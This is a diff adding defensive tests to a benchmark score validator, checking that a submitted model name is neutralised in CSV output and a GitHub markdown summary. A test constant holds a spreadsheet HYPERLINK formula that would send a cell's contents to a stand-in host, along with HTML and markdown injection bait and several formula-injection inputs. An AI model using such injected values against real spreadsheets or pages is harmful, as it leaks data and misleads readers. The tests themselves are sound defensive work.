@@ -125,6 +125,44 @@ def _one_run_manifest(tmp_path: Path, columns: dict[str, str], logs: bool = True
     return manifest, values
 
 
+# A model name is the submitter's text: a spreadsheet formula, HTML, a link and a ping in one.
+HOSTILE_MODEL = '=HYPERLINK("https://evil.example/?"&A1,"open") <img src=x> @octocat [x](https://evil.example) a|b'
+
+
+def test_a_submitters_model_name_is_inert_in_the_csv_and_the_summary(tmp_path):
+    """survey.csv: a text cell a spreadsheet would run starts with an apostrophe; survey.jsonl keeps it exact.
+    summary.md: the cell holds no HTML, link, image or ping (it is read on GitHub)."""
+    manifest, _ = _one_run_manifest(tmp_path, {"drop/f1": "99.00"})
+    results = next((tmp_path / "runs").glob("*/results_*.json"))
+    data = json.loads(results.read_text(encoding="utf-8"))
+    data["model_name"] = HOSTILE_MODEL
+    results.write_text(json.dumps(data), encoding="utf-8")
+    result = lbnorm("survey", str(manifest), "--out", str(tmp_path / "out"), "--published-scale", "100",
+                    "--no-plots")
+    assert result.returncode == 1 and "1 published scores not reproduced" in result.stdout, result.stdout
+    assert {row["model"] for row in read_jsonl(tmp_path / "out" / "survey.jsonl")} == {HOSTILE_MODEL}
+    with open(tmp_path / "out" / "survey.csv", encoding="utf-8", newline="") as handle:
+        cells = {row["model"] for row in csv.DictReader(handle)}
+    assert cells == {"'" + HOSTILE_MODEL}
+    summary = (tmp_path / "out" / "summary.md").read_text(encoding="utf-8")
+    lines = [line for line in summary.splitlines() if "HYPERLINK" in line]
+    assert len(lines) == 2  # the published number not reproduced, and the run's DROP numbers
+    for line in lines:
+        for bait in ("<img", "https://", "@octocat", "[x](", "a|b"):
+            assert bait not in line
+        assert "a\\|b" in line  # the name's '|' does not end its cell
+
+
+@pytest.mark.parametrize("text, cell", [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
+    ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("org/model-7b", "org/model-7b"), ("a=b", "a=b"), ("", ""),
+])
+def test_a_spreadsheet_runs_no_text_cell_of_the_csv(text, cell):
+    from validator.io.safe_text import spreadsheet_cell
+
+    assert spreadsheet_cell(text) == cell
+
+
 def test_every_published_metric_of_a_task_is_compared_none_dropped(tmp_path):
     """A manifest publishing a task's f1 and em: a wrong f1 beside a right em is not reproduced."""
     manifest, values = _one_run_manifest(tmp_path, {"drop/f1": "99.00", "drop/em": "{em}"})
